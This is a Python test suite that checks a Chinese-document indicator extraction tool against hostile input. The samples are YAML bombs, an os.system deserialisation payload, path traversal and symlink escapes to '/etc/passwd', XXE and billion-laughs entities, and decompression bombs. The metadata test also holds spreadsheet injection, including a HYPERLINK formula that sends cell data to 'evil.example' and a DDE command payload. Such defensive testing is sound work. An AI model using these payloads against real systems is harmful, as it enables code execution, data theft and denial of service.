"""Documents and rules made to do harm, through the command line and the library: bounded work, nothing let through."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pytest

from indicators.errors import ReadingError, RuleError
from indicators.project import extract, load_project
from indicators.reading import limits
from indicators.reading.deadline import within
from indicators.reading.files import list_entries, read_entry
from indicators.reading.formats import extract as read_file
from indicators.rules.loading import load_rules_text
from indicators.table.exports import write_table

RULES = """schema: 1
corpus: [docs]
indicators:
  branches: {name: 党支部, kind: count, unit: 个, patterns: ['成立党支部{value}']}
"""
SENTENCE = "云溪县成立党支部1185个。"


def project(folder: Path, rules: str = RULES, **texts: str | bytes) -> Path:
    """A project on disk; __ in a name is a dot."""
    (folder / "docs").mkdir()
    (folder / "config.yaml").write_text(rules, "utf-8")
    for name, words in texts.items():
        data = words if isinstance(words, bytes) else words.encode()
        (folder / "docs" / name.replace("__", ".")).write_bytes(data)
    return folder / "config.yaml"


def run(config: Path, *words: str) -> tuple[int, list[dict[str, str]], str]:
    """Exit code, rows of the CSV on standard output, standard error."""
    command = [sys.executable, "-m", "indicators.cli", *words, "--config", str(config)]
    done = subprocess.run(command, capture_output=True, timeout=120, cwd=config.parent)
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8-sig"), newline="")))
    return done.returncode, rows, done.stderr.decode()


# --- rules ---


def test_a_pattern_without_end_fails_alone(tmp_path: Path) -> None:
    slow = "  slow: {name: 慢, kind: count, unit: 个, patterns: ['(?:[一-龥]|村)+(?:甲|[^甲]){value}(?!)']}\n"
    text = "".join(f"{'村' * 50}第{n}组成立党支部{n}个。" for n in range(2, 60))
    config = project(tmp_path, RULES + slow, a__txt=text)
    code, rows, said = run(config, "extract")
    assert code == 1
    assert "slow#1" in said
    assert len(rows) == 58


@pytest.mark.parametrize(
    "text",
    [
        "a: " + "[" * 5_000 + "]" * 5_000,
        "\n".join("  " * depth + f"k{depth}:" for depth in range(500)),
        "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60)),
        "a: &a {b: *a}",
        "a: !!python/object/apply:os.system ['touch made']",
        "a: 1\n" * 2_000,
        "macros: {" + ", ".join(f"m{chr(97 + n)}: '{{m{chr(98 + n)}}}{{m{chr(98 + n)}}}'" for n in range(24)) + "}",
    ],
    ids=["nested", "indented", "bomb", "circle", "object", "twice", "macros"],
)
def test_yaml_that_grows_is_refused_where_it_does(tmp_path: Path, text: str) -> None:
    config = project(tmp_path, text, a__txt=SENTENCE)
    with pytest.raises(RuleError) as caught:
        load_project(config)
    assert all(fault.location.line for fault in caught.value.faults)
    assert not (tmp_path / "made").exists()


def test_the_command_line_says_it_without_a_traceback(tmp_path: Path) -> None:
    code, _, said = run(project(tmp_path, "a: &a {b: *a}", a__txt=SENTENCE), "check")
    assert code == 1
    assert "config.yaml:1:" in said
    assert "Traceback" not in said


@pytest.mark.parametrize("path", ["../secret.yaml", "/etc/passwd", "docs/../../secret.yaml"])
def test_rules_are_read_from_their_folder_only(tmp_path: Path, path: str) -> None:
    (tmp_path / "secret.yaml").write_text("password: opensesame", "utf-8")
    (tmp_path / "inner").mkdir()
    config = project(tmp_path / "inner", f"packs: ['{path}']\n{RULES}", a__txt=SENTENCE)
    with pytest.raises(RuleError) as caught:
        load_project(config)
    assert "opensesame" not in str(caught.value)
    assert "root:" not in str(caught.value)


def test_a_pattern_may_not_hide_its_number_in_a_comment() -> None:
    with pytest.raises(RuleError, match="comment"):
        load_rules_text(RULES.replace("成立党支部{value}", "成立党支部(?#{value}"))


# --- texts ---


@pytest.mark.parametrize(
    "text",
    [
        "成立党支部" + "1" * 1_000_000 + "个。",
        "成立党支部9" + "亿" * 70 + "个。",
        "成立党支部" + "9亿" * 3_000 + "个。",
        "村民小组" * 200_000,
        "某村成立党支部3个," * 1_000,
        "(" * 50_000 + "“" * 50_000,
    ],
    ids=["digits", "beyond any float", "multipliers", "one line", "no full stop", "brackets"],
)
def test_a_text_without_measure_is_read_beside_another(tmp_path: Path, text: str) -> None:
    config = project(tmp_path, a__txt=text, b__txt=SENTENCE)
    rows = load_project(config).quantities()
    assert list(rows[rows["document"] == "b.txt"]["value"]) == [1185]
    assert rows["value"].dropna().abs().max() < 1e300
    assert rows["sentence"].str.len().max() < 10_000
    hostile = rows[rows["document"] == "a.txt"]
    assert [text[start:end] for start, end in zip(hostile["start"], hostile["end"], strict=True)] == list(
        hostile["text"]
    )


@pytest.mark.parametrize(
    "words",
    ["1\u200b185", "\u202e1185\u202c", "1185\u2069", "１１８５", "\ufeff1185", "1\u20601\u206085"],
    ids=["zero width", "override", "isolate", "full width", "mark", "joiner"],
)
def test_invisible_characters_change_no_number_and_no_offset(words: str) -> None:
    text = f"云溪县成立党支部{words}个。"
    (row,) = extract(text, load_rules_text(RULES)).itertuples()
    assert row.value == 1185
    assert text[row.start : row.end] == row.text


@pytest.mark.parametrize("odd", ["\x00", "\ud800", "\udfff\ud800", "\x1b[31m", "\x85", "\ufffe"])
def test_characters_that_files_cannot_hold(tmp_path: Path, odd: str) -> None:
    frame = extract(f"{odd}云溪县{odd}成立党支部1185个{odd}。", load_rules_text(RULES))
    assert list(frame["value"]) == [1185]
    for kind in ("csv", "parquet", "xlsx"):
        write_table(frame, tmp_path / f"claims.{kind}")
    sheet = openpyxl.load_workbook(tmp_path / "claims.xlsx").active
    assert sheet is not None
    assert sheet.max_row == 2


def test_a_file_with_nul_bytes_is_refused_with_a_reason(tmp_path: Path) -> None:
    config = project(tmp_path, a__txt="云溪县成立\x00党支部\x001185个。" * 20, b__txt=SENTENCE)
    rows = load_project(config).documents()
    assert dict(zip(rows["document"], rows["status"], strict=True)) == {"a.txt": "refused", "b.txt": "read"}
    assert " / " in rows["reason"][0]


def test_formulas_and_scripts_of_documents_stay_words(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    script = "<script>alert(1)</script>"
    page = f"<html><meta charset=utf-8><title>{formula}</title><body><p>{SENTENCE}</p></body></html>"
    config = project(tmp_path, a__html=page, b__txt=f"{script}\n云溪县{script}成立党支部12个。")
    (tmp_path / "docs" / "metadata.csv").write_text(
        f"file,title,source\nb.txt,{script},\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", "utf-8"
    )
    write_table(load_project(config).extract(), tmp_path / "claims.csv")
    write_table(load_project(config).extract(), tmp_path / "claims.xlsx")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "claims.csv").read_text("utf-8-sig"), newline="")))
    assert {row["title"] for row in rows} == {"'" + formula, script}
    assert rows[1]["source"].startswith("'@")
    sheet = openpyxl.load_workbook(tmp_path / "claims.xlsx").active
    assert sheet is not None
    assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "inlineStr"}


# --- files ---


def test_links_out_of_the_corpus_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("机密村成立党支部7个。", "utf-8")
    (tmp_path / "inner").mkdir()
    config = project(tmp_path / "inner", a__txt=SENTENCE)
    (config.parent / "docs" / "link.txt").symlink_to(tmp_path / "secret.txt")
    (config.parent / "docs" / "up").symlink_to(tmp_path)
    (config.parent / "docs" / "metadata.csv").write_text("file,title\n../../secret.txt,x\n/etc/passwd,y\n", "utf-8")
    assert list(load_project(config).extract()["value"]) == [1185]
    listed = load_project(config).documents()
    assert dict(zip(listed["document"], listed["status"], strict=True)) == {
        "a.txt": "read",
        "link.txt": "refused",
        "up": "refused",
    }


def flate(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def pdf_of(content: bytes, filters: str) -> bytes:
    """A PDF of one page whose content is given packed."""
    head = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<<>>>>endobj\n"
    )
    stream = f"4 0 obj<</Length {len(content)}/Filter[{filters}]>>stream\n".encode() + content
    return head + stream + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def bomb_docx() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w>" + b" " * 30_000_000)
    return stream.getvalue()


def test_files_that_unpack_without_end_are_refused_by_the_limits_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("pdf_unpacked_bytes", "docx_unpacked_bytes"):
        monkeypatch.setitem(limits.LIMITS, name, 20_000_000)
    space = b" " * 30_000_000
    for content, filters in ((flate(space), "/FlateDecode"), (flate(space, 2), "/FlateDecode/FlateDecode")):
        with pytest.raises(ReadingError, match="pdf_unpacked_bytes"):
            read_file("a.pdf", pdf_of(content, filters))
    with pytest.raises(ReadingError, match="docx_unpacked_bytes"):
        read_file("a.docx", bomb_docx())
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.txt", b"0" * 30_000_000)
        archive.writestr("good.txt", SENTENCE)
    config = project(tmp_path)
    (tmp_path / "a.zip").rename(tmp_path / "docs" / "a.zip")
    assert list(load_project(config).extract()["document"]) == ["a.zip/good.txt"]


def test_a_page_that_takes_too_long_is_refused_by_the_limits_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(limits.LIMITS, "pdf_page_seconds", 0.3)
    boxes = b"".join(b"%d %d 5 5 re S\n" % (n % 90, n // 90 % 90) for n in range(60_000))
    with pytest.raises(ReadingError, match=r"page 1, limit pdf_page_seconds = 0\.3 s; split it / "):
        read_file("a.pdf", pdf_of(flate(boxes), "/FlateDecode"))


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_limit_on_time_that_strikes_in_a_destructor_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    class Endless:
        def __del__(self) -> None:  # Python drops what is raised here
            while True:
                pass

    monkeypatch.setitem(limits.LIMITS, "pdf_seconds", 0.1)
    with pytest.raises(ReadingError, match="limit pdf_seconds"):
        within("pdf_seconds", lambda: bool(Endless()))


def test_a_limit_on_time_ends_the_innermost_work_and_leaves_nothing_behind(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(limits.LIMITS, "pdf_seconds", 0.2)
    monkeypatch.setitem(limits.LIMITS, "pdf_page_seconds", 60)

    def endless() -> None:
        while True:
            pass

    with pytest.raises(ReadingError, match="limit pdf_seconds"):
        within("pdf_seconds", lambda: within("pdf_page_seconds", endless))
    monkeypatch.setitem(limits.LIMITS, "pdf_seconds", 0.0001)
    for _ in range(50):  # work that ends about when its time does: a result or a reason, and nothing afterwards
        try:
            assert within("pdf_seconds", lambda: sum(range(500))) == 124_750
        except ReadingError:
            continue
    assert sum(range(10_000)) == 49_995_000


def test_the_library_reads_a_project_that_holds_only_harm(tmp_path: Path) -> None:
    config = project(
        tmp_path, a__pdf=b"%PDF-1.7 " + bytes(99), b__docx=b"PK\x03\x04", c__zip=b"PK\x05\x06", d__txt=b"\x81\xff" * 99
    )
    loaded = load_project(config)
    assert len(loaded.extract()) == 0
    assert all(reason for _, reason in loaded.refused())
    assert len(loaded.refused()) == 4


# --- what stands in a file's place ---


def refused(config: Path, *words: str) -> str:
    """What a command says that ends with exit code 1, without a stack trace."""
    code, _, said = run(config, *words)
    assert code == 1
    assert "Traceback" not in said
    return said


@pytest.mark.skipif(sys.platform == "win32", reason="named pipes of POSIX")
def test_nobody_waits_for_a_pipe_and_no_device_is_read_without_end(tmp_path: Path) -> None:
    config = project(tmp_path, a__txt=SENTENCE)
    docs = config.parent / "docs"
    os.mkfifo(docs / "b.txt")
    assert [row["status"] for row in run(config, "documents")[1]] == ["read", "refused"]
    os.mkfifo(docs / "metadata.csv")
    assert "docs/metadata.csv: cannot be read: not a regular file / 不是普通文件" in refused(config, "extract")
    (docs / "metadata.csv").unlink()
    (docs / "reviews.csv").symlink_to("/dev/zero")
    assert "docs/reviews.csv: cannot be read: not a regular file / 不是普通文件" in refused(config, "extract")
    (docs / "reviews.csv").unlink()
    config.write_text(f"packs: [more.yaml]\n{RULES}", "utf-8")
    os.mkfifo(tmp_path / "more.yaml")
    assert "config.yaml:1:9: pack 'more.yaml': cannot be read: not a regular file" in refused(config, "extract")


def test_a_file_that_became_a_pipe_after_it_was_listed_is_refused(tmp_path: Path) -> None:
    config = project(tmp_path, a__txt=SENTENCE)
    (entry,) = list_entries(config.parent / "docs")
    (config.parent / "docs" / "a.txt").unlink()
    os.mkfifo(config.parent / "docs" / "a.txt")
    assert read_entry(entry).reason == "cannot be opened: not a regular file / 不是普通文件 / 无法打开"


@pytest.mark.parametrize("name", ["metadata.csv", "reviews.csv"])
def test_a_quote_that_is_never_closed_swallows_no_rows(tmp_path: Path, name: str) -> None:
    config = project(tmp_path, a__txt=SENTENCE, b__txt=SENTENCE.replace("1185", "12"))
    header = "file,title\n" if name == "metadata.csv" else "document,indicator,decision,exact,reviewer,reviewed_at\n"
    path = config.parent / "docs" / name
    path.write_text(f'{header}b.txt,"第一行"\na.txt,"第二行\nb.txt,第三行\n', "utf-8")
    said = refused(config, "extract")
    assert f"docs/{name}:3:1: a quote is not closed" in said
    assert "引号没有闭合" in said
    path.write_text(f'{header}b.txt,"{"长" * 140_000}"\n', "utf-8")
    assert f"docs/{name}: no CSV: field larger than field limit" in refused(config, "extract")


def test_a_million_faults_are_a_page_of_words(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    docs = tmp_path / "docs"
    bad = "".join(
        f"  i{number}: {{name: 站, kind: odd{number}, unit: 个, patterns: ['站{{value}}']}}\n" for number in range(999)
    )
    config = project(tmp_path, RULES, a__txt=SENTENCE)
    (docs / "reviews.csv").write_text(
        "document,indicator,decision,exact,start\n"
        + "".join(f"a.txt,branches,no,{number},\n" for number in range(999)),
        "utf-8",
    )
    (docs / "metadata.csv").write_text("file\n" + "".join(f"gone{number}.txt\n" for number in range(999)), "utf-8")
    code, _, said = run(config, "extract")
    assert (code, said.count("'no' is no decision"), said.count("no document 'gone")) == (1, 51, 51)
    assert "docs/reviews.csv: and 949 more like the last: 'no' is no decision\n    同类问题还有 949 处" in said
    with pytest.raises(RuleError) as caught:
        load_rules_text(RULES + bad)
    assert len(caught.value.faults) == 999
    assert str(caught.value).count("\n") == 50
    monkeypatch.setitem(limits.LIMITS, "metadata_bytes", 100)
    with pytest.raises(ReadingError, match="limit metadata_bytes = 100; split it / 超过限制 metadata_bytes,请拆分"):
        list_entries(docs)
    monkeypatch.setitem(limits.LIMITS, "reviews_bytes", 100)
    with pytest.raises(ReadingError, match="limit reviews_bytes = 100; split it / 超过限制 reviews_bytes"):
        load_project(config).reviews()
    (tmp_path / "more.yaml").write_text("macros: {}\n" + "#" * 1000, "utf-8")
    config.write_text(f"packs: [more.yaml]\n{RULES}", "utf-8")
    monkeypatch.setitem(limits.LIMITS, "rules_bytes", 1000)
    with pytest.raises(RuleError, match=r"config.yaml:1:9: pack 'more.yaml': .*limit rules_bytes = 1,000"):
        load_project(config)


def docx_of(body: str, doctype: str = "") -> bytes:
    """A Word file of which the body's XML is given."""
    stream = io.BytesIO()
    docx.Document().save(stream)
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    words = f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{name}"><w:body>{body}</w:body></w:document>'
    made = io.BytesIO()
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            new.writestr(entry, words if entry == "word/document.xml" else old.read(entry))
    return made.getvalue()


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def test_xml_that_laughs_or_points_elsewhere_brings_nothing_in(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("机密村成立党支部7个。", "utf-8")
    assert read_file("a.docx", docx_of(paragraph(SENTENCE))).text == SENTENCE
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    with pytest.raises(ReadingError, match="damaged docx file"):
        read_file("a.docx", docx_of(paragraph("&a10;"), f'<!DOCTYPE d [<!ENTITY a0 "笑笑笑笑">{laughs}]>'))
    outside = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{(tmp_path / "secret.txt").as_uri()}">]>'
    assert read_file("a.docx", docx_of(paragraph(SENTENCE) + paragraph("&x;"), outside)).text.strip() == SENTENCE
    page = f"<!DOCTYPE html{outside[11:]}<html><body><p>{SENTENCE}&x;</p></body></html>".encode()
    assert "机密" not in read_file("a.html", page).text


@pytest.mark.parametrize(
    "wide",
    [
        "<w:trPr><w:gridBefore w:val='90000000'/></w:trPr><w:tc>",
        "<w:tc><w:tcPr><w:gridSpan w:val='90000000'/></w:tcPr>",
    ],
    ids=["before", "over"],
)
def test_a_word_table_of_millions_of_columns_is_refused_by_the_limits_name(wide: str) -> None:
    table = f"<w:tbl><w:tr>{wide}{paragraph('12个')}</w:tc></w:tr></w:tbl>"
    with pytest.raises(ReadingError, match="limit docx_columns"):
        read_file("a.docx", docx_of(paragraph(SENTENCE) + table))


def test_a_tag_of_more_attributes_than_the_parser_takes_is_refused_and_long_values_are_not() -> None:
    many = " ".join(f"a{n}='x>y'" for n in range(20_000))
    with pytest.raises(ReadingError, match="limit html_attributes"):
        read_file("a.html", f"<p>{SENTENCE}</p><p {many}>".encode())
    picture = f'<img alt="{"一 " * 9_000}" src="data:image/png;base64,{"ab/+" * 9_000}==">'
    assert read_file("a.html", f"<body>{picture}<p>{SENTENCE}</p>".encode()).text == SENTENCE


@pytest.mark.skipif(sys.platform == "win32", reason="a shell of POSIX")
def test_a_stream_that_was_closed_before_the_start_costs_no_rows(tmp_path: Path) -> None:
    config = project(tmp_path, a__txt=SENTENCE)
    command = f"'{sys.executable}' -m indicators.cli extract --config '{config}'"
    done = subprocess.run(["/bin/sh", "-c", f"{command} 2>&-"], capture_output=True, timeout=120, cwd=tmp_path)
    assert (done.returncode, done.stdout.count(b"\r\n")) == (0, 2)
    done = subprocess.run(["/bin/sh", "-c", f"{command} >&-"], capture_output=True, timeout=120, cwd=tmp_path)
    assert done.returncode == 1
    assert b"stdout: cannot be written" in done.stderr
    assert b"Traceback" not in done.stderr
